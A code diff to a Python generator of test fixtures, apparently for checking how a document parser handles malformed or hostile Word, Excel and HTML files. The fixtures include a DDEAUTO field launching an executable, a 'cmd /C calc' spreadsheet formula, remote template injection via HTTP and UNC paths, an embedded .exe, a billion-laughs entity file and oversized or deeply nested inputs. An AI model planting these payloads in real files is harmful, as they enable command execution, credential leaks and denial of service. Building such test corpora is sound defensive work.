@@ -48,23 +48,18 @@ def relations(*entries: str) -> str:
     return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(found)}</Relationships>'
 
 
-def docx(
-    body: str = "<w:p/>", *extra: object, main: str = "wordprocessingml.document.main+xml", raw: bytes | None = None, **parts: str
-) -> bytes:
-    """Return a Word file of a body, further parts by path (``__`` for a slash) and zip parts of any kind."""
+def docx(body: str = "<w:p/>", *extra: object, main: str = "wordprocessingml.document.main+xml", raw: bytes | None = None) -> bytes:
+    """Return a Word file of a body and further parts."""
     document = raw if raw is not None else f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'.encode()
     listed = [
         C.Part("[Content_Types].xml", types(main).encode()),
         C.Part("_rels/.rels", relations("r1 officeDocument word/document.xml").encode()),
         C.Part("word/document.xml", document),
-        *(C.Part(name.replace("__", "/"), text.encode()) for name, text in parts.items()),
     ]
     return bytes(C.zipped([*listed, *extra]))
 
 
-def xlsx(
-    rows: str = "", *extra: object, after: str = "", before: str = "", sheets: int = 1, raw: bytes | None = None, **parts: str
-) -> bytes:
+def xlsx(rows: str = "", *extra: object, after: str = "", before: str = "", sheets: int = 1, raw: bytes | None = None) -> bytes:
     """Return a workbook with one sheet's rows and what stands before and after them."""
     sheet = raw if raw is not None else f'<worksheet xmlns="{S}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()
     listed_sheets = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(sheets))
@@ -77,9 +72,13 @@ def xlsx(
             relations("r1 worksheet worksheets/s.xml", "r2 sharedStrings strings.xml", "r3 styles styles.xml").encode(),
         ),
         C.Part("xl/worksheets/s.xml", sheet),
-        *(C.Part(name.replace("__", "/"), text.encode()) for name, text in parts.items()),
     ]
     return bytes(C.zipped([*listed, *extra]))
+
+
+def added(name: str, words: str) -> object:
+    """Return a further part of a package."""
+    return C.Part(name, words.encode())
 
 
 def dtd(inside: str, use: str = "") -> bytes:
@@ -206,8 +205,8 @@ def parts() -> dict[str, Maker]:
         "merge-nothing.docx": lambda: docx(table("<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>", 3)),
         "style-loop.docx": lambda: docx(
             '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>',
-            **{"word___rels__document.xml.rels": relations("r1 styles styles.xml")},
-            **{"word__styles.xml": f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:basedOn w:val="a"/></w:style></w:styles>'},
+            added("word/_rels/document.xml.rels", relations("r1 styles styles.xml")),
+            added("word/styles.xml", f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:basedOn w:val="a"/></w:style></w:styles>'),
         ),
         "not-xml.docx": lambda: docx(raw=b"\xff\xfe\x00\x01 no xml"),
         "no-body.docx": lambda: docx(raw=f'<w:document xmlns:w="{W}"/>'.encode()),
@@ -220,12 +219,14 @@ def parts() -> dict[str, Maker]:
         "ole.docx": lambda: docx("<w:p/>", C.Part("word/embeddings/oleObject1.bin", noise(100))),
         "program-inside.docx": lambda: docx("<w:p/>", C.Part("word/embeddings/a.exe", b"MZ")),
         "template-elsewhere.docx": lambda: docx(
-            **{"word___rels__settings.xml.rels": relations("r1 attachedTemplate http://192.0.2.1/t.dotm External")}
+            "<w:p/>", added("word/_rels/settings.xml.rels", relations("r1 attachedTemplate http://192.0.2.1/t.dotm External"))
         ),
         "template-share.docx": lambda: docx(
-            **{"word___rels__settings.xml.rels": relations("r1 attachedTemplate \\\\192.0.2.1\\t.dotm External")}
+            "<w:p/>", added("word/_rels/settings.xml.rels", relations("r1 attachedTemplate \\\\192.0.2.1\\t.dotm External"))
         ),
-        "picture-elsewhere.docx": lambda: docx(**{"word___rels__document.xml.rels": relations("r1 image http://192.0.2.1/p.png External")}),
+        "picture-elsewhere.docx": lambda: docx(
+            "<w:p/>", added("word/_rels/document.xml.rels", relations("r1 image http://192.0.2.1/p.png External"))
+        ),
         "dde.docx": lambda: docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r></w:p>"),
         "dde-split.docx": lambda: docx("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r></w:p>"),
     }
@@ -257,16 +258,16 @@ def sheets() -> dict[str, Maker]:
         ),
         "number-huge.xlsx": lambda: xlsx("<row><c><v>1e999999999</v></c><c><v>1e308</v></c><c><v>nan</v></c></row>"),
         "format-long.xlsx": lambda: xlsx(
-            '<row><c s="0"><v>1.5</v></c></row>', **{"xl__styles.xml": style.format(S, "0" * 50_000 + "!" * 5_000)}
+            '<row><c s="0"><v>1.5</v></c></row>', added("xl/styles.xml", style.format(S, "0" * 50_000 + "!" * 5_000))
         ),
         "format-conditions.xlsx": lambda: xlsx(
-            '<row><c s="0"><v>1.5</v></c></row>', **{"xl__styles.xml": style.format(S, "[&gt;1" * 9_000)}
+            '<row><c s="0"><v>1.5</v></c></row>', added("xl/styles.xml", style.format(S, "[&gt;1" * 9_000))
         ),
         "columns-hidden.xlsx": lambda: xlsx("<row><c><v>1</v></c></row>", before='<cols><col min="1" max="16384" hidden="1"/></cols>'),
         "formula-command.xlsx": lambda: xlsx("<row><c><f>cmd|' /C calc'!A0</f></c></row>"),
         "sheets-many.xlsx": lambda: xlsx("<row><c><v>1</v></c></row>", sheets=20_000),
         "link-elsewhere.xlsx": lambda: xlsx(
-            "", **{"xl__externalLinks___rels__e.xml.rels": relations("r1 externalLinkPath http://192.0.2.1/x.xlsx External")}
+            "", added("xl/externalLinks/_rels/e.xml.rels", relations("r1 externalLinkPath http://192.0.2.1/x.xlsx External"))
         ),
         "encrypted.xlsx": lambda: bytes(C.compound({"EncryptionInfo": noise(100), "EncryptedPackage": noise(9_000)})),
         "compound-loop.xls": lambda: bytes(C.compound({"Workbook": noise(9_000)}, loop=True)),
@@ -299,9 +300,9 @@ def pages() -> dict[str, Maker]:
     return {
         "deep.html": lambda: b"<html><body>" + b"<div>" * 200_000,
         "deep-tables.html": lambda: b"<html>" + b"<table><tr><td>a<td>b<tr><td>" * 3_000,
-        "spans.html": lambda: f"<html><table>{rows * 3_000}</table>".encode(),
+        "spans.html": lambda: b"<html><table>" + rows.encode() * 3_000 + b"</table>",
         "cells.html": lambda: b"<html><table>" + b"<tr>" + b"<td>1" * 400_000,
-        "entities.html": lambda: f"<!DOCTYPE html [{laughs()}]><html><body>&a9;</body></html>".encode(),
+        "entities.html": lambda: b"<!DOCTYPE html [" + laughs().encode() + b"]><html><body>&a9;</body></html>",
         "nothing.html": lambda: b"<html></html>",
         "binary.html": lambda: b"<html>" + noise(200_000),
         "attribute.html": lambda: b"<html><p title='" + b"a" * (5 * MILLION) + b"'>x</p>",
